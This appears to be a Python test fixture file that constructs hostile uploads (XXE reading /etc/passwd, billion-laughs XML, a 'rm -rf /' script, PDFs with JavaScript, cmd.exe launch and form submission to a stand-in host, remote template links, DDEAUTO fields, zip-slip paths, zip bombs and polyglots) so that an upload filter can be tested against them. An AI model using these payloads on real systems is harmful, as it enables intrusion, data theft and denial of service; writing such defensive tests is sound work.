"""Files that a stranger could send, by name: what they are called, and what is in them."""

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tests.common.document_text.files import WORD, make_pdf
from tests.common.uploads.files import OFFICE, RELATIONS, TYPES, make_docx, make_image, make_odt, make_package

SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="hit()"><script>hit()</script></svg>'
XXE = '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def pdf_with(entry: str, value: object) -> bytes:
    """A PDF with something in its root."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf("tekst"))))
    writer.root_object[NameObject(entry)] = value
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def action(kind: str, **entries: str) -> DictionaryObject:
    found = DictionaryObject({NameObject("/S"): NameObject(kind)})
    found.update({NameObject(f"/{name}"): TextStringObject(value) for name, value in entries.items()})
    return found


def holding(name: str) -> DictionaryObject:
    return DictionaryObject({NameObject(name): ArrayObject()})


def pdf_with_attachment() -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf("tekst"))))
    writer.add_attachment("kwaad.exe", b"MZ")
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def pdf_with_annotation(kind: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf("tekst"))))
    note = DictionaryObject({NameObject("/Subtype"): NameObject(kind)})
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def docx_with(part: str, content: str | bytes) -> bytes:
    return make_docx({part: content})


def docx_related(kind: str, target: str) -> bytes:
    relation = f'<Relationship Id="b" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return docx_with("word/_rels/document.xml.rels", f"<Relationships {RELATIONS}>{relation}</Relationships>")


def docx_saying(text: str) -> bytes:
    return docx_with("word/document.xml", f"<w:document {WORD}><w:body>{text}</w:body></w:document>")


def docx_with_xml_head(head: str) -> bytes:
    return docx_with("word/document.xml", f"{head}<w:document {WORD}><w:body>&x;</w:body></w:document>")


def docx_that_lies_about_its_size() -> bytes:
    """A part of 400 MB that says it is small."""
    packed = bytearray(docx_with("word/media/groot.xml", b"\0" * (8 * 1024 * 1024)))
    real = struct.pack("<L", 8 * 1024 * 1024)
    return bytes(packed.replace(real, struct.pack("<L", 900)))


def png_of(width: int, height: int) -> bytes:
    """The start of a picture that would take gigabytes in memory."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")
    )


def zip_with_two_parts_of_one_name() -> bytes:
    target = io.BytesIO(make_docx())
    with zipfile.ZipFile(target, "a") as package:
        package.writestr("WORD/document.xml", "<x/>")
    return target.getvalue()


def gif_of_many_frames() -> bytes:
    frames = [Image.new("RGB", (1, 1), (number % 256, number // 256, 0)) for number in range(260)]
    target = io.BytesIO()
    frames[0].save(target, "GIF", save_all=True, append_images=frames[1:])
    return target.getvalue()


MACRO_TYPES = (
    f'<Types {TYPES}><Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)
EVENT = (
    '<x xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0">'
    '<script:event-listener script:event-name="dom:load"/></x>'
)
ODT_MACRO = '<x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="vnd.sun.star.script:kwaad?language=Basic"/>'

DOCUMENTS: dict[str, tuple[str, bytes]] = {
    "a program": ("rapport.exe", b"MZ" + b"\0" * 100),
    "a program called PDF": ("rapport.pdf", b"MZ" + b"\0" * 100),
    "a web page": ("rapport.html", b"<script>hit()</script>"),
    "a web page called text": ("rapport.txt", b"  <!DOCTYPE html><script>hit()</script>"),
    "an SVG": ("plaatje.svg", SVG),
    "an SVG called text": ("plaatje.txt", SVG),
    "an SVG with an entity called CSV": ("plaatje.csv", XXE.encode() + SVG),
    "a script called text": ("start.txt", b"#!/bin/sh\nrm -rf /\n"),
    "two extensions": ("rapport.pdf.exe", make_pdf("tekst")),
    "a NUL in the name": ("rapport.exe\0.pdf", b"MZ"),
    "a macro file by its name": ("rapport.docm", make_docx({"word/vbaProject.bin": COMPOUND})),
    "a PDF that starts late": ("rapport.pdf", b"GIF89a;<script>hit()</script>" + make_pdf("tekst")),
    "a zip that is a PDF": ("rapport.docx", make_pdf("tekst") + make_docx()),
    "a PDF that is a zip": ("rapport.pdf", make_docx()),
    "a JPEG called PDF": ("rapport.pdf", make_image()),
    "a PDF with a script": ("rapport.pdf", pdf_with("/OpenAction", action("/JavaScript", JS="hit()"))),
    "a PDF with a script in a name": ("rapport.pdf", pdf_with("/Names", holding("/JavaScript"))),
    "a PDF that starts a program": ("rapport.pdf", pdf_with("/OpenAction", action("/Launch", F="cmd.exe"))),
    "a PDF that sends a form": ("rapport.pdf", pdf_with("/OpenAction", action("/SubmitForm", F="https://kwaad.example"))),
    "a PDF with actions": ("rapport.pdf", pdf_with("/AA", DictionaryObject())),
    "a PDF with a form of XML": ("rapport.pdf", pdf_with("/AcroForm", holding("/XFA"))),
    "a PDF with a file in it": ("rapport.pdf", pdf_with_attachment()),
    "a PDF with a file on a page": ("rapport.pdf", pdf_with_annotation("/FileAttachment")),
    "a PDF with a film": ("rapport.pdf", pdf_with_annotation("/RichMedia")),
    "a PDF with a password": ("rapport.pdf", make_pdf("tekst", password="geheim")),
    "half a PDF": ("rapport.pdf", make_pdf("tekst")[:60]),
    "a macro": ("rapport.docx", docx_with("word/vbaProject.bin", COMPOUND)),
    "a macro under another name": ("rapport.docx", docx_with("word/plaatje.png", COMPOUND)),
    "a type with macros": ("rapport.docx", docx_with("[Content_Types].xml", MACRO_TYPES)),
    "a control that runs": ("rapport.docx", docx_with("word/activeX/activeX1.xml", "<x/>")),
    "an object of another program": ("rapport.docx", docx_with("word/embeddings/oleObject1.bin", COMPOUND)),
    "a program in a document": ("rapport.docx", docx_with("word/media/a.png", b"MZ\0\0")),
    "a template from elsewhere": ("rapport.docx", docx_related("attachedTemplate", "https://kwaad.example/x.dotm")),
    "a picture from elsewhere": ("rapport.docx", docx_related("image", "https://kwaad.example/meet.png")),
    "a link that runs": ("rapport.docx", docx_related("hyperlink", "javascript:hit()")),
    "a field that starts a program": (
        "rapport.docx", docx_saying('<w:p><w:r><w:instrText> DDEAUTO c:\\\\cmd "/k"</w:instrText></w:r></w:p>')
    ),
    "an external entity": ("rapport.docx", docx_with_xml_head(XXE)),
    "an external entity in UTF-16": ("rapport.docx", docx_with("word/styles.xml", f"{XXE}<x>&x;</x>".encode("utf-16"))),
    "a billion laughs": ("rapport.docx", docx_with_xml_head(LAUGHS)),
    "a zip bomb": ("rapport.docx", docx_with("word/media/a.xml", b" " * 60_000_000)),
    "a zip that lies": ("rapport.docx", docx_that_lies_about_its_size()),
    "a zip of many parts": ("rapport.docx", make_docx({f"word/media/{number}.xml": "<x/>" for number in range(5_001)})),
    "a way out of the folder": ("rapport.docx", docx_with("word/../../../etc/cron.d/kwaad", "x")),
    "an absolute way": ("rapport.docx", docx_with("/etc/cron.d/kwaad", "x")),
    "a way out of Windows": ("rapport.docx", docx_with("..\\..\\kwaad.exe", "x")),
    "two parts of one name": ("rapport.docx", zip_with_two_parts_of_one_name()),
    "a sheet called document": ("rapport.docx", make_package({"xl/workbook.xml": "<x/>"}, {})),
    "an old document": ("rapport.docx", COMPOUND),
    "macros of LibreOffice": ("rapport.odt", make_odt({"Basic/Standard/Module1.xml": "<x/>"})),
    "an event of LibreOffice": ("rapport.odt", make_odt({"content.xml": EVENT})),
    "a call of LibreOffice": ("rapport.odt", make_odt({"styles.xml": ODT_MACRO})),
    "an entity of LibreOffice": ("rapport.odt", make_odt({"content.xml": f"{XXE}<x>&x;</x>"})),
    "a sheet called text document": ("rapport.odt", make_odt(kind="spreadsheet")),
    "nothing": ("leeg.txt", b""),
    "white space": ("leeg.txt", b" \n\n "),
    "bytes called text": ("data.txt", bytes(range(256))),
}  # fmt: skip

IMAGES: dict[str, tuple[str, bytes]] = {
    "an SVG": ("plaatje.svg", SVG),
    "an SVG called PNG": ("plaatje.png", SVG),
    "a PNG called JPEG": ("plaatje.jpg", make_image("PNG")),
    "a picture of gigabytes": ("plaatje.png", png_of(60_000, 60_000)),
    "half a picture": ("plaatje.png", make_image("PNG", size=(400, 400))[:200]),
    "a script called GIF": ("plaatje.gif", b"GIF89a/*<script>hit()</script>*/=1;"),
    "a film of a thousand moments": ("plaatje.gif", gif_of_many_frames()),
    "a PDF called JPEG": ("plaatje.jpg", make_pdf("tekst")),
    "a web page called WebP": ("plaatje.webp", b"RIFF\0\0\0\0WEBP<script>hit()</script>"),
}
